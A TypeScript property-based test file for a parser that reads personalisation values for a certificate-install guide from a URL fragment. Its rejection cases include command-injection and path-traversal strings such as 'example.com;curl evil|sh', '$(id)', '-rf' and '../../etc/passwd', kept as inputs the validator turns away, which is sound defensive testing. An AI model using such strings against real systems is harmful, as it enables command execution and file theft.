import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  fileOf,
  hostOfWildcard,
  type Personalisation,
  readFragment,
  writeFragment,
} from "../../../../shared/guide/personalisation.ts";

describe("what a fragment may hold", () => {
  test.each<[string, Personalisation]>([
    ["#v=1&d=www.example.com&f=shop", { values: { domain: "www.example.com", file: "shop" } }],
    ["v=1&d=xn--mnchen-3ya.de", { values: { domain: "xn--mnchen-3ya.de" } }],
    ["#d=a&v=1", { values: { domain: "a" } }],
    ["#v=1&d=*.example.com", { values: { domain: "www.example.com" }, wildcard: "*.example.com" }],
    [
      "#v=1&os=rhel&ca=digicert&x=2028-02-29&sugg=nginx&at=step-3",
      {
        values: {},
        os: "rhel",
        authority: "digicert",
        expires: "2028-02-29",
        suggestion: "nginx",
        at: "step-3",
      },
    ],
    ["#v=1", { values: {} }],
  ])("%s", (fragment, value) => {
    expect(readFragment(fragment)).toEqual({ ok: true, value });
  });
});

describe("what refuses the whole fragment", () => {
  test.each([
    ["", "no-personalisation"],
    ["#copy-the-files", "no-personalisation"],
    ["#d=www.example.com", "unknown-version"],
    ["#v=2&d=www.example.com", "unknown-version"],
    ["#v=1&d=www.example.com&d=evil.example", "repeated-key"],
    ["#v=1&v=1", "repeated-key"],
    ["#v=1&why=x", "unknown-key"],
    ["#v=1&__proto__=x", "unknown-key"],
    ["#v=1&constructor=x", "unknown-key"],
    ["#v=1&", "unknown-key"],
    [`#v=1&d=${"a.".repeat(400)}a`, "too-long"],
    [`#v=1&d=${"a.".repeat(127)}a`, "bad-value"],
    [`#v=1&d=*.${"a.".repeat(124)}aa`, "bad-value"],
    [`#v=1&d=${"a".repeat(64)}.de`, "bad-value"],
    ["#v=1&d=", "bad-value"],
    ["#v=1&d=example.com.", "bad-value"],
    ["#v=1&d=-rf.example.com", "bad-value"],
    ["#v=1&d=a-.example.com", "bad-value"],
    ["#v=1&d=a..b", "bad-value"],
    ["#v=1&d=*.*.example.com", "bad-value"],
    ["#v=1&d=w*.example.com", "bad-value"],
    ["#v=1&d=*.", "bad-value"],
    ["#v=1&d=münchen.de", "bad-value"],
    ["#v=1&d=www.example.com%3Brm", "bad-value"],
    ["#v=1&d=www.example.com%0A", "bad-value"],
    ["#v=1&d=www.example.com\n", "bad-value"],
    ["#v=1&d=example.com;curl evil|sh", "bad-value"],
    ["#v=1&d=$(id)", "bad-value"],
    ["#v=1&d=`id`", "bad-value"],
    ["#v=1&d=www.example.com&f=-rf", "bad-value"],
    ["#v=1&d=www.example.com&f=..", "bad-value"],
    ["#v=1&d=www.example.com&f=../../etc/passwd", "bad-value"],
    ["#v=1&d=www.example.com&f=a b", "bad-value"],
    [`#v=1&f=${"a".repeat(81)}`, "bad-value"],
    ["#v=1&os=debian-12", "bad-value"],
    ["#v=1&ca=DigiCert", "bad-value"],
    ["#v=1&x=2027-02-29", "bad-value"],
    ["#v=1&x=2027-2-1", "bad-value"],
    ["#v=1&x=2027-02-01T00:00", "bad-value"],
    ["#v=1&at=#x", "bad-value"],
  ])("%s: %s", (fragment, code) => {
    const read = readFragment(fragment);
    expect(read.ok ? "accepted" : read.problem.code).toBe(code);
  });
});

const label = fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,20}[a-z0-9])?$/);
const host = fc.array(label, { minLength: 1, maxLength: 6 }).map((labels) => labels.join("."));
const maybe = <T>(name: string, arbitrary: fc.Arbitrary<T>) =>
  fc.option(arbitrary, { nil: undefined }).map((value) => (value === undefined ? {} : { [name]: value }));

const personalisation: fc.Arbitrary<Personalisation> = fc
  .tuple(
    maybe("domain", host),
    maybe("file", fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9._-]{0,79}$/)),
    maybe("os", fc.constantFrom("debian" as const, "rhel" as const)),
    maybe("authority", fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,39}$/)),
    maybe(
      "expires",
      fc
        .date({ min: new Date("2000-01-01"), max: new Date("2999-12-31"), noInvalidDate: true })
        .map((at) => at.toISOString().slice(0, 10)),
    ),
    maybe("suggestion", fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,39}$/)),
    maybe("at", fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,79}$/)),
    fc.option(host, { nil: undefined }),
  )
  .map(([domain, file, os, authority, expires, suggestion, at, below]) =>
    below === undefined
      ? { values: { ...domain, ...file }, ...os, ...authority, ...expires, ...suggestion, ...at }
      : {
          values: { domain: `www.${below}`, ...file },
          wildcard: `*.${below}`,
          ...os,
          ...authority,
          ...expires,
          ...suggestion,
          ...at,
        },
  );

describe("properties", () => {
  test("what was written is read again, unchanged", () => {
    fc.assert(
      fc.property(personalisation, (given) => {
        expect(readFragment(writeFragment(given))).toEqual({ ok: true, value: given });
      }),
    );
  });

  test("no string makes it throw", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary" }), fc.webFragments()), (text) => void readFragment(text)),
    );
  });

  test("no accepted value holds anything that a shell or HTML reads", () => {
    const keys = fc.constantFrom("v", "d", "f", "os", "ca", "x", "sugg", "at", "zz");
    const value = fc.oneof(host, fc.string(), fc.constantFrom("1", "debian", "*.a.de", "$(x)", "a;b", "2027-01-01"));
    const fragment = fc
      .array(fc.tuple(keys, value), { maxLength: 6 })
      .map((pairs) => pairs.map(([k, v]) => `${k}=${v}`).join("&"));
    fc.assert(
      fc.property(fragment, (text) => {
        const read = readFragment(`#v=1&${text}`);
        if (!read.ok) return;
        const { values, wildcard, ...rest } = read.value;
        for (const accepted of [...Object.values(values), ...Object.values(rest)])
          expect(accepted).toMatch(/^[\w][\w.-]*$/);
        if (wildcard !== undefined) expect(wildcard).toMatch(/^\*\.[\w.-]+$/);
      }),
      { numRuns: 2000 },
    );
  });

  test("whatever a certificate says, the link still opens the guide", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string(), (domain, file) => {
        expect(readFragment(writeFragment({ values: { domain, file }, authority: file })).ok).toBe(true);
      }),
    );
  });
});

test("a wildcard becomes a host to ask and a file to name", () => {
  expect([hostOfWildcard("*.example.com"), fileOf("*.example.com")]).toEqual([
    "www.example.com",
    "wildcard.example.com",
  ]);
  expect([hostOfWildcard("mail.example.com"), fileOf("mail.example.com")]).toEqual([
    "mail.example.com",
    "mail.example.com",
  ]);
});
